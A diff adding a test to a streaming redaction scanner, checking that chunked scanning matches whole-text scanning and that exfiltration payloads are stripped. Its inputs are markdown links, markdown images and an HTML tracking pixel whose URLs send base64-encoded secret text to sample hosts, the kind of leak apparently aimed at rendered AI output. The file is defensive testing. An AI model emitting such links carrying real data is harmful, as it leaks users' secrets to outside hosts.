@@ -132,3 +132,27 @@ t.test('counted repetitions bound the hold on long runs of digits and base64', a
     t.ok(maxHeld <= 128, `${name}: held at most ${maxHeld} characters (the lane's longest match is ${lane.maxLength})`)
   }
 })
+
+t.test('a link context that holds a match still gates its query, in any chunking', async (t) => {
+  // After a match the tracker is made again and reads the decided text
+  // before it for its contexts: the e-mail or IP inside the link's URL must
+  // not make the query after it pass unseen, nor a URL outside a link hold.
+  const texts = [
+    '[x](https://jane.doe@acme-corp.com/p?d=U2VjcmV0IHRva2VuOiBhYmMxMjM9PSBzZWNyZXQ=) end',
+    '![a](https://81.2.69.161/t.png?d=U2VjcmV0IHRva2VuOiBhYmMxMjM9PSBzZWNyZXQ=) end',
+    'mail jane.doe@acme-corp.com then see https://x.example/a?b=U2VjcmV0IHRva2VuOiBhYmMxMjM9PSBzZWNyZXQ= for',
+    '<img src="https://e.example/t.gif?u=q5DnLBJ91xYI3lQ74qXDGi9eDavCWkiy" width="1">'
+  ]
+  for (const text of texts) {
+    const whole = scanText(ruleSet, text).text
+    for (let step = 1; step <= 9; step++) {
+      const scanner = createScanner(ruleSet)
+      let out = ''
+      for (let i = 0; i < text.length; i += step) out += scanner.write(text.slice(i, i + step)).text
+      out += scanner.end().text
+      t.equal(out, whole, `${JSON.stringify(text)} in pieces of ${step}`)
+    }
+    if (text.startsWith('mail')) t.ok(whole.includes('?b=U2VjcmV0'), 'a URL outside a link is no exfiltration')
+    else t.notOk(whole.includes('U2VjcmV0') || whole.includes('q5DnLBJ91'), `the payload is gone: ${whole}`)
+  }
+})
